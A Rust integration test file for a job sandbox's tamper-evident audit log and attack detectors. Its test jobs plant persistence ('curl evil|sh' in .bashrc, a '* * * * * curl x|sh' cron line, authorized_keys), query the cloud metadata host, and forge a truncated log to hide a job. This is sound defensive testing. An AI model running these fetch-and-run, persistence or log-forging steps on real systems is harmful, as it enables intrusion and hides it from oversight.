//! The audit log through the real binary: jobs are recorded, the chain verifies, tampering is
//! found, and no job starts when the log cannot be written.

mod common;

use common::*;

#[test]
fn jobs_are_recorded_and_tampering_is_detected() {
    need_root!();
    let w = World::new();
    let p = w.policy("version = 1\n[groups.default]\nsecrets = [\"TOKEN\"]\n");
    let mut c = w.cmd();
    c.env("TOKEN", "audit-secret-value-42")
        .args(["run", "-q", "-p"])
        .arg(&p)
        .args([
            "--",
            "/bin/sh",
            "-c",
            "getent hosts nowhere.example; exit 3",
        ]);
    let o = c.output().expect("run");
    assert_eq!(o.status.code(), Some(3), "{}", stderr(&o));

    let o = w.cmd().args(["audit", "verify"]).output().expect("verify");
    assert!(o.status.success(), "{}", stdout(&o));
    assert!(stdout(&o).contains(": ok ("), "{}", stdout(&o));

    let o = w
        .cmd()
        .args(["audit", "show", "--json"])
        .output()
        .expect("show");
    let recs: Vec<serde_json::Value> = stdout(&o)
        .lines()
        .map(|l| serde_json::from_str(l).expect("json"))
        .collect();
    let kinds: Vec<&str> = recs.iter().filter_map(|r| r["kind"].as_str()).collect();
    assert_eq!(kinds.first(), Some(&"job.requested"), "{kinds:?}");
    assert_eq!(kinds.last(), Some(&"job.ended"), "{kinds:?}");
    assert!(
        kinds.contains(&"net.dns"),
        "the denied DNS query is on the record: {kinds:?}"
    );
    assert_eq!(recs[0]["data"]["secrets"], serde_json::json!(["TOKEN"]));
    assert_eq!(recs.last().expect("last")["data"]["outcome"]["value"], 3);
    let raw = std::fs::read_to_string(w.data().join("audit/audit.jsonl")).expect("log");
    assert!(
        !raw.contains("audit-secret-value-42"),
        "a secret value reached the audit log"
    );

    let o = w
        .cmd()
        .args(["audit", "show", "--kind", "job"])
        .output()
        .expect("show");
    // requested, started, ended
    assert_eq!(stdout(&o).lines().count(), 3, "{}", stdout(&o));

    // Edit one record: verify fails and says where.
    let tampered = raw.replacen("job.requested", "job.requestec", 1);
    std::fs::write(w.data().join("audit/audit.jsonl"), tampered).expect("write");
    let o = w.cmd().args(["audit", "verify"]).output().expect("verify");
    assert_eq!(o.status.code(), Some(1));
    assert!(
        stdout(&o).contains("TAMPERED") && stdout(&o).contains("audit.jsonl:2:"),
        "{}",
        stdout(&o)
    );
    w.assert_clean();
}

#[test]
fn no_job_starts_when_the_audit_log_cannot_be_written() {
    need_root!();
    let w = World::new();
    // The data directory is a file: the audit directory cannot be created.
    let blocker = w.dir.path().join("not-a-dir");
    std::fs::write(&blocker, "").expect("file");
    let mut c = w.cmd();
    c.env("AIRLOCK_DATA_DIR", &blocker)
        .args(["run", "--", "/bin/echo", "should-not-run"]);
    let o = c.output().expect("run");
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(!stdout(&o).contains("should-not-run"));
    assert!(
        stderr(&o).contains("audit log cannot be written"),
        "{}",
        stderr(&o)
    );
    w.assert_clean();
}

#[test]
fn concurrent_jobs_share_one_unbroken_chain() {
    need_root!();
    let w = World::new();
    let kids: Vec<_> = (0..4)
        .map(|i| {
            let mut c = w.cmd();
            c.args(["run", "-q", "--", "/bin/sh", "-c"])
                .arg(format!("exit {i}"))
                .stdout(std::process::Stdio::null())
                .stderr(std::process::Stdio::piped());
            c.spawn().expect("spawn")
        })
        .collect();
    for (i, k) in kids.into_iter().enumerate() {
        let o = k.wait_with_output().expect("wait");
        assert_eq!(o.status.code(), Some(i as i32), "{}", stderr(&o));
    }
    let o = w.cmd().args(["audit", "verify"]).output().expect("verify");
    assert!(o.status.success(), "{}", stdout(&o));
    let o = w
        .cmd()
        .args(["audit", "show", "--kind", "job.ended"])
        .output()
        .expect("show");
    assert_eq!(stdout(&o).lines().count(), 4, "{}", stdout(&o));
    w.assert_clean();
}

#[test]
fn every_exec_is_recorded_even_short_lived_ones() {
    need_root!();
    let w = World::new();
    for policy in ["", "executor = \"runc\"\n"] {
        // 1000 execs of one program within a second or two: past the default burst (500 per
        // kind and key) they would be aggregated with their count (tests/flood.rs); here
        // every one is to be seen whole, so the group allows a larger burst.
        let p = w.policy(&format!(
            "version = 1\n[groups.default]\naudit = {{ burst = 5000 }}\n{policy}"
        ));
        let before = records(&w, "process.exec").len();
        let o = w
            .cmd()
            .args(["run", "-q", "-p"])
            .arg(&p)
            .args([
                "--",
                "/bin/sh",
                "-c",
                "cd /tmp && for i in $(seq 1000); do /bin/true; done; unshare -U true; exit 0",
            ])
            .output()
            .expect("run");
        assert!(o.status.success(), "{}", stderr(&o));
        let execs = records(&w, "process.exec");
        let mine = &execs[before..];
        let trues: Vec<_> = mine
            .iter()
            .filter(|r| r["data"]["path"] == "/bin/true")
            .collect();
        assert_eq!(
            trues.len(),
            1000,
            "{policy}: every /bin/true is on the record"
        );
        let t = trues[0];
        assert_eq!(t["data"]["argv"], serde_json::json!(["/bin/true"]));
        assert_eq!(t["data"]["uid"], 1001);
        assert_eq!(t["data"]["cwd"], "/tmp");
        let sh = &mine[0];
        assert_eq!(sh["data"]["path"], "/bin/sh", "the job's own command first");
        assert_eq!(t["data"]["ppid"], sh["data"]["pid"], "parent attribution");
        assert!(mine
            .iter()
            .any(|r| r["data"]["argv"] == serde_json::json!(["unshare", "-U", "true"])));
        let denied = records(&w, "syscall.denied");
        assert!(
            denied
                .iter()
                .any(|r| r["data"]["syscall"] == "unshare" && r["job"] == sh["job"]),
            "{policy}: the denied unshare is on the record: {denied:?}"
        );
    }
    let o = w.cmd().args(["audit", "verify"]).output().expect("verify");
    assert!(o.status.success(), "{}", stdout(&o));
    w.assert_clean();
}

#[test]
fn what_the_job_leaves_on_disk_is_recorded_and_persistence_classified() {
    need_root!();
    let w = World::new();
    let o = w
        .cmd()
        .args([
            "run",
            "-q",
            "--",
            "/bin/sh",
            "-c",
            "echo 'curl evil|sh' >> ~/.bashrc; mkdir -p ~/.ssh ~/.config/systemd/user; \
             echo key > ~/.ssh/authorized_keys; echo x > ~/.config/systemd/user/x.service; \
             echo out > build.txt",
        ])
        .output()
        .expect("run");
    assert!(o.status.success(), "{}", stderr(&o));
    let files = records(&w, "file.changed");
    let find = |p: &str| {
        files
            .iter()
            .find(|r| r["data"]["path"] == p)
            .unwrap_or_else(|| panic!("{p} not on the record: {files:?}"))
    };
    assert_eq!(
        find("/home/runner/.bashrc")["data"]["persistence"],
        "shell-rc"
    );
    assert_eq!(
        find("/home/runner/.ssh/authorized_keys")["data"]["persistence"],
        "authorized-keys"
    );
    assert_eq!(
        find("/home/runner/.config/systemd/user/x.service")["data"]["persistence"],
        "systemd-unit"
    );
    let build = find("/home/runner/work/build.txt");
    assert_eq!(build["data"]["change"], "created");
    assert!(build["data"].get("persistence").is_none());
    let scan = records(&w, "file.scan");
    assert_eq!(scan.len(), 1);
    w.assert_clean();
}

fn report(path: &std::path::Path) -> serde_json::Value {
    serde_json::from_slice(&std::fs::read(path).expect("report")).expect("json")
}

fn detectors(r: &serde_json::Value) -> Vec<String> {
    r["alerts"]
        .as_array()
        .expect("alerts")
        .iter()
        .filter_map(|a| a["detector"].as_str().map(str::to_owned))
        .collect()
}

#[test]
fn a_real_offline_build_raises_no_alerts() {
    need_root!();
    let w = World::new();
    // A small C project with make, the compiler, the archiver and git: hundreds of execs,
    // files written in the workspace and /tmp, no network.
    let ws = w.ws();
    for i in 0..12 {
        std::fs::write(
            ws.join(format!("m{i}.c")),
            format!("int f{i}(int x) {{ return x * {i} + 1; }}\n"),
        )
        .expect("src");
    }
    let calls: String = (0..12).map(|i| format!("s += f{i}(s); ")).collect();
    let decls: String = (0..12).map(|i| format!("int f{i}(int);\n")).collect();
    std::fs::write(
        ws.join("main.c"),
        format!("#include <stdio.h>\n{decls}int main(void) {{ int s = 1; {calls} printf(\"%d\\n\", s); return 0; }}\n"),
    )
    .expect("main");
    std::fs::write(
        ws.join("Makefile"),
        "OBJ := $(patsubst %.c,%.o,$(filter m%.c,$(wildcard *.c)))\n\
         app: main.o libm.a\n\tcc -o $@ main.o libm.a\n\
         libm.a: $(OBJ)\n\tar rcs $@ $^\n\
         %.o: %.c\n\tcc -O2 -c $< -o $@\n\
         clean:\n\trm -f *.o *.a app\n",
    )
    .expect("makefile");
    let rep = w.dir.path().join("benign.json");
    let o = w
        .cmd()
        .args(["run", "-q", "--report"])
        .arg(&rep)
        .arg("-w")
        .arg(&ws)
        .args([
            "--",
            "/bin/sh",
            "-c",
            "git init -q . && git add -A && git -c user.email=ci@example.com -c user.name=ci commit -qm init \
             && make -j2 >/dev/null && ./app && make clean >/dev/null && make -j2 >/dev/null && ./app",
        ])
        .output()
        .expect("run");
    assert!(o.status.success(), "{}", stderr(&o));
    let r = report(&rep);
    assert_eq!(detectors(&r), Vec::<String>::new(), "{}", stderr(&o));
    assert!(
        records(&w, "process.exec").len() > 50,
        "the build was observed"
    );
    assert!(!stderr(&o).contains("alert"), "{}", stderr(&o));
    w.assert_clean();
}

#[test]
fn attacks_raise_their_alerts_with_evidence() {
    need_root!();
    let w = World::new();
    let rep = w.dir.path().join("attack.json");
    let o = w
        .cmd()
        .args(["run", "-q", "--report"])
        .arg(&rep)
        .args([
            "--",
            "/bin/sh",
            "-c",
            "echo '* * * * * curl x|sh' > /tmp/cron; mkdir -p ~/.ssh; echo k >> ~/.ssh/authorized_keys; \
             unshare -U true; getent hosts metadata.google.internal; exit 0",
        ])
        .output()
        .expect("run");
    assert!(o.status.success(), "{}", stderr(&o));
    let r = report(&rep);
    let d = detectors(&r);
    for want in [
        "persistence-attempt",
        "privileged-operation",
        "metadata-access",
    ] {
        assert!(d.iter().any(|x| x == want), "{want} missing: {d:?}");
    }
    // Each alert is on the record and names evidence that exists.
    let alerts = records(&w, "alert");
    assert_eq!(alerts.len(), d.len());
    let all = show(&w, &["--json"]);
    for a in &alerts {
        for e in a["data"]["evidence"].as_array().expect("evidence") {
            assert!(
                all.iter().any(|r| r["seq"] == *e && r["job"] == a["job"]),
                "evidence {e} of {a} is not a record of the job"
            );
        }
    }
    assert!(
        stderr(&o).contains("privileged-operation"),
        "{}",
        stderr(&o)
    );
    // The same log as OCSF events: process launches and a detection finding among them.
    let ev = show(&w, &["--ocsf"]);
    assert!(
        ev.iter().any(|e| e["class_uid"] == 1007),
        "no Process Activity"
    );
    assert!(
        ev.iter().any(|e| e["class_uid"] == 2004),
        "no Detection Finding"
    );
    w.assert_clean();
}

#[test]
fn a_refused_job_and_a_rotation_are_on_the_record() {
    need_root!();
    let w = World::new();
    let o = w
        .cmd()
        .args(["run", "-q", "-g", "nosuch", "--", "/bin/true"])
        .output()
        .expect("run");
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    let refused = records(&w, "job.refused");
    assert_eq!(refused.len(), 1, "{refused:?}");
    assert_eq!(refused[0]["data"]["group"], "nosuch");
    let o = w.cmd().args(["audit", "rotate"]).output().expect("rotate");
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(stdout(&o).contains("audit.jsonl.0"), "{}", stdout(&o));
    // A second rotation has nothing to close and says so.
    let o = w.cmd().args(["audit", "rotate"]).output().expect("rotate");
    assert!(!o.status.success());
    assert!(stderr(&o).contains("empty"), "{}", stderr(&o));
    let o = w.sh(&[], "exit 0");
    assert!(o.status.success(), "{}", stderr(&o));
    let o = w.cmd().args(["audit", "verify"]).output().expect("verify");
    assert!(o.status.success(), "{}", stdout(&o));
    assert_eq!(records(&w, "job.requested").len(), 1);
    w.assert_clean();
}

#[test]
fn a_job_whose_alert_sink_cannot_work_does_not_start() {
    need_root!();
    let w = World::new();
    // The webhook's HMAC key names a secret that exists nowhere: no job may run whose alerts
    // could not be delivered. Refused before any network is touched.
    let p = w.policy(
        "version = 1\n[groups.default]\n[alerts]\nwebhook = { url = \"https://hooks.example.com/airlock\", secret = \"AIRLOCK_TEST_NO_SUCH_KEY\" }\n",
    );
    let o = w
        .cmd()
        .env_remove("AIRLOCK_TEST_NO_SUCH_KEY")
        .args(["run", "-q", "-p"])
        .arg(&p)
        .args(["--", "/bin/sh", "-c", "echo ran"])
        .output()
        .expect("run");
    assert_ne!(o.status.code(), Some(0), "{}", stderr(&o));
    assert!(!stdout(&o).contains("ran"), "the job ran");
    assert!(
        stderr(&o).contains("AIRLOCK_TEST_NO_SUCH_KEY"),
        "{}",
        stderr(&o)
    );
    assert!(records(&w, "job.requested").is_empty());
    w.assert_clean();
}

/// Clears the immutable flag again, whatever happens in the test.
struct Immutable(std::path::PathBuf);

impl Drop for Immutable {
    fn drop(&mut self) {
        let _ = std::process::Command::new("chattr")
            .arg("-i")
            .arg(&self.0)
            .status();
    }
}

#[test]
fn execs_are_refused_once_the_audit_log_breaks_mid_job() {
    need_root!();
    let w = World::new();
    let log = w.data().join("audit/audit.jsonl");
    let child = w
        .cmd()
        .args([
            "run",
            "--",
            "/bin/sh",
            "-c",
            "/bin/sleep 1.5; /bin/sleep 0.5; /bin/sleep 0.5; /bin/echo after-the-break",
        ])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("spawn");
    // Once the first sleep is on the record, make the log immutable: even root cannot append.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(15);
    while !std::fs::read_to_string(&log).is_ok_and(|s| s.contains("\"/bin/sleep\"")) {
        assert!(
            std::time::Instant::now() < deadline,
            "the job never started"
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let guard = Immutable(log.clone());
    let st = std::process::Command::new("chattr")
        .arg("+i")
        .arg(&log)
        .status()
        .expect("chattr");
    assert!(st.success(), "chattr +i failed");
    let o = child.wait_with_output().expect("wait");
    drop(guard);
    let (out, err) = (stdout(&o), stderr(&o));
    // The write failure is known after at most the exec in flight; every later exec is
    // refused (no record, no exec).
    assert!(!out.contains("after-the-break"), "{out}\n{err}");
    assert!(err.contains("Operation not permitted"), "{err}");
    assert!(!o.status.success(), "{err}");
    assert_eq!(
        err.matches("the audit log cannot be written").count(),
        1,
        "the failure is reported once: {err}"
    );
    w.assert_clean();
}

// ---- issue 15 item 8: `audit verify` can be fooled; item 1: retention ----

fn sha256_hex(b: &[u8]) -> String {
    use sha2::Digest;
    sha2::Sha256::digest(b)
        .iter()
        .map(|x| format!("{x:02x}"))
        .collect()
}

/// What someone who can write the audit directory does to hide a job: cut the log after
/// record `keep` and recompute the unkeyed head so the chain and head agree again.
fn truncate_and_recompute_head(audit: &std::path::Path, keep: usize) {
    let log = audit.join("audit.jsonl");
    let raw = std::fs::read_to_string(&log).expect("log");
    let lines: Vec<&str> = raw.lines().take(keep).collect();
    std::fs::write(
        &log,
        lines.iter().map(|l| format!("{l}\n")).collect::<String>(),
    )
    .expect("truncate");
    let last = lines.last().expect("a record left");
    let seq = serde_json::from_str::<serde_json::Value>(last).expect("json")["seq"].clone();
    std::fs::write(
        audit.join("audit.head"),
        serde_json::json!({ "seq": seq, "hash": sha256_hex(last.as_bytes()) }).to_string(),
    )
    .expect("head");
}

#[test]
fn verify_fails_on_a_missing_or_empty_log_unless_allowed() {
    let w = World::new();
    let missing = w.dir.path().join("no-such-audit");
    let o = w
        .cmd()
        .args(["audit", "verify", "--log"])
        .arg(&missing)
        .output()
        .expect("verify");
    assert_ne!(o.status.code(), Some(0), "{}", stdout(&o));
    assert!(stdout(&o).contains("does not exist"), "{}", stdout(&o));
    let empty = w.dir.path().join("empty-audit");
    std::fs::create_dir_all(&empty).expect("mkdir");
    let o = w
        .cmd()
        .args(["audit", "verify", "--log"])
        .arg(&empty)
        .output()
        .expect("verify");
    assert_ne!(o.status.code(), Some(0), "{}", stdout(&o));
    assert!(stdout(&o).contains("empty"), "{}", stdout(&o));
    // An empty log some tool created (lock file, empty segment) is still empty.
    std::fs::write(empty.join("audit.jsonl"), "").expect("seg");
    let o = w
        .cmd()
        .args(["audit", "verify", "--json", "--log"])
        .arg(&empty)
        .output()
        .expect("verify");
    assert_ne!(o.status.code(), Some(0), "{}", stdout(&o));
    let o = w
        .cmd()
        .args(["audit", "verify", "--allow-empty", "--log"])
        .arg(&empty)
        .output()
        .expect("verify");
    assert_eq!(o.status.code(), Some(0), "{}", stdout(&o));
    assert!(
        stdout(&o).contains("EMPTY") && stdout(&o).contains("--allow-empty"),
        "{}",
        stdout(&o)
    );
}

#[test]
fn a_truncated_tail_with_a_recomputed_head_fails_against_the_checkpoints() {
    need_root!();
    let w = World::new();
    let sink = w.dir.path().join("alerts.jsonl");
    let p = w.policy(&format!(
        "version = 1\n[alerts]\nfile = {:?}\n[groups.default]\n",
        sink.display().to_string()
    ));
    for i in 0..2 {
        let o = w
            .cmd()
            .args(["run", "-q", "-p"])
            .arg(&p)
            .args(["--", "/bin/sh", "-c"])
            .arg(format!("exit {i}"))
            .output()
            .expect("run");
        assert_eq!(o.status.code(), Some(i), "{}", stderr(&o));
    }
    let audit = w.data().join("audit");
    let o = w.cmd().args(["audit", "verify"]).output().expect("verify");
    assert!(o.status.success(), "{}", stdout(&o));
    assert!(stdout(&o).contains("checkpoint"), "{}", stdout(&o));
    // Every job end was shipped to the sink as a checkpoint.
    let shipped = std::fs::read_to_string(&sink).expect("sink copy");
    assert!(
        shipped
            .lines()
            .filter(|l| l.contains("audit.checkpoint"))
            .count()
            >= 2,
        "{shipped}"
    );

    // Hide the second job: keep only the first job's records.
    let raw = std::fs::read_to_string(audit.join("audit.jsonl")).expect("log");
    let first_end = raw
        .lines()
        .position(|l| l.contains("\"job.ended\""))
        .expect("first job ended");
    truncate_and_recompute_head(&audit, first_end + 1);
    // The old checks pass: chain and head agree (this is what the reviewer showed).
    let o = w
        .cmd()
        .args(["audit", "verify", "--log"])
        .arg(&audit)
        .output()
        .expect("verify");
    assert!(o.status.success(), "{}", stdout(&o));
    assert!(
        stdout(&o).contains("no checkpoint"),
        "the output says truncation was not checked: {}",
        stdout(&o)
    );
    // Against the sink's copy of the checkpoints it fails.
    let o = w
        .cmd()
        .args(["audit", "verify", "--checkpoint"])
        .arg(&sink)
        .output()
        .expect("verify");
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
    assert!(stdout(&o).contains("truncated"), "{}", stdout(&o));
    // And against airlock's own checkpoint file, used by default.
    let o = w.cmd().args(["audit", "verify"]).output().expect("verify");
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));

    // The second job's checkpoint forged to name the truncated log's head (the attacker has
    // no key: its MAC no longer verifies) fails too.
    let ck = w.data().join("audit.checkpoints.jsonl");
    let mut forged: serde_json::Value = serde_json::from_str(
        shipped
            .lines()
            .rfind(|l| l.contains("audit.checkpoint"))
            .expect("a checkpoint"),
    )
    .expect("json");
    let last = std::fs::read_to_string(audit.join("audit.head")).expect("head");
    let head: serde_json::Value = serde_json::from_str(&last).expect("head json");
    forged["seq"] = head["seq"].clone();
    forged["head"] = head["hash"].clone();
    std::fs::write(&ck, format!("{forged}\n")).expect("forge");
    let o = w.cmd().args(["audit", "verify"]).output().expect("verify");
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
    assert!(stdout(&o).contains("MAC"), "{}", stdout(&o));
    // Deleting airlock's own checkpoint file does not make the default verify pass.
    std::fs::remove_file(&ck).expect("rm checkpoints");
    let o = w.cmd().args(["audit", "verify"]).output().expect("verify");
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
    assert!(
        stdout(&o).contains("checkpoint file is missing"),
        "{}",
        stdout(&o)
    );
    w.assert_clean();
}

#[test]
fn retention_by_size_keeps_verify_ok_and_the_anchor_is_honoured() {
    need_root!();
    let w = World::new();
    let p = w.policy(
        "version = 1\n[audit]\nsegment_bytes = \"4KiB\"\nmax_bytes = \"12KiB\"\n[groups.default]\n",
    );
    for _ in 0..8 {
        let o = w
            .cmd()
            .args(["run", "-q", "-p"])
            .arg(&p)
            .args(["--", "/bin/sh", "-c", "/bin/true; /bin/true; exit 0"])
            .output()
            .expect("run");
        assert!(o.status.success(), "{}", stderr(&o));
    }
    let audit = w.data().join("audit");
    let size: u64 = std::fs::read_dir(&audit)
        .expect("dir")
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().starts_with("audit.jsonl"))
        .map(|e| e.metadata().map(|m| m.len()).unwrap_or(0))
        .sum();
    assert!(
        size <= 12 * 1024 + 8192,
        "retention bounds the log: {size} bytes"
    );
    assert!(
        audit.join("audit.anchor").exists(),
        "older records were removed"
    );
    let o = w.cmd().args(["audit", "verify"]).output().expect("verify");
    assert!(o.status.success(), "{}", stdout(&o));
    assert!(stdout(&o).contains("retention"), "{}", stdout(&o));
    // Removing the oldest retained segment without a new anchor is tampering.
    let mut segs: Vec<_> = std::fs::read_dir(&audit)
        .expect("dir")
        .flatten()
        .map(|e| e.path())
        .filter(|p| {
            p.file_name()
                .is_some_and(|n| n.to_string_lossy().starts_with("audit.jsonl."))
        })
        .collect();
    segs.sort();
    std::fs::remove_file(&segs[0]).expect("rm oldest");
    let o = w.cmd().args(["audit", "verify"]).output().expect("verify");
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
    w.assert_clean();
}

#[test]
fn the_checkpoint_key_never_enters_a_job_through_the_workspace() {
    need_root!();
    let w = World::new();
    let o = w
        .cmd()
        .args(["audit", "checkpoint"])
        .output()
        .expect("checkpoint");
    assert!(o.status.success(), "{}", stderr(&o));
    let key = w.data().join("keys/audit.key");
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(&key).expect("key").permissions().mode();
    assert_eq!(mode & 0o777, 0o600);
    // A workspace that holds the data directory (and so the key) is refused.
    let o = w
        .cmd()
        .args(["run", "-q", "-w"])
        .arg(w.data())
        .args(["--", "/bin/true"])
        .output()
        .expect("run");
    assert_ne!(o.status.code(), Some(0), "{}", stderr(&o));
    assert!(stderr(&o).contains("key directory"), "{}", stderr(&o));
    w.assert_clean();
}

/// Checklist item 25: airlock's configuration is watched. Every job records the digest of
/// its policy; a group whose policy changed between two jobs raises `config-changed`.
#[test]
fn a_changed_policy_is_recorded_and_alerted_once() {
    need_root!();
    let w = World::new();
    let rep = w.dir.path().join("report.json");
    let run = |policy: &str| {
        let p = w.policy(policy);
        let o = w
            .cmd()
            .args(["run", "-q", "--report"])
            .arg(&rep)
            .arg("-p")
            .arg(&p)
            .args(["--", "/bin/true"])
            .output()
            .expect("run");
        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
        detectors(&report(&rep))
    };
    let a = "version = 1\n[groups.ci]\nlimits = { pids = 100 }\n";
    let b = "version = 1\n[groups.ci]\nlimits = { pids = 200 }\n";
    assert!(
        !run(a).contains(&"config-changed".to_owned()),
        "a group's first job"
    );
    assert!(
        !run(a).contains(&"config-changed".to_owned()),
        "same policy"
    );
    assert!(
        run(b).contains(&"config-changed".to_owned()),
        "changed policy"
    );
    assert!(
        !run(b).contains(&"config-changed".to_owned()),
        "alerted once"
    );

    let o = w
        .cmd()
        .args(["audit", "show", "--json"])
        .output()
        .expect("show");
    let recs: Vec<serde_json::Value> = stdout(&o)
        .lines()
        .map(|l| serde_json::from_str(l).expect("json"))
        .collect();
    let digest = |t: &str| sha256_hex(t.as_bytes());
    let want = [digest(a), digest(a), digest(b), digest(b)];
    for kind in ["job.requested", "job.started"] {
        let got: Vec<&str> = recs
            .iter()
            .filter(|r| r["kind"] == kind)
            .filter_map(|r| r["data"]["policy_sha256"].as_str())
            .collect();
        assert_eq!(got, want, "{kind}");
    }
    let changed: Vec<&serde_json::Value> = recs
        .iter()
        .filter(|r| r["kind"] == "config.changed")
        .collect();
    assert_eq!(changed.len(), 1, "{changed:?}");
    assert_eq!(changed[0]["data"]["previous"], digest(a));
    assert_eq!(changed[0]["data"]["current"], digest(b));
}
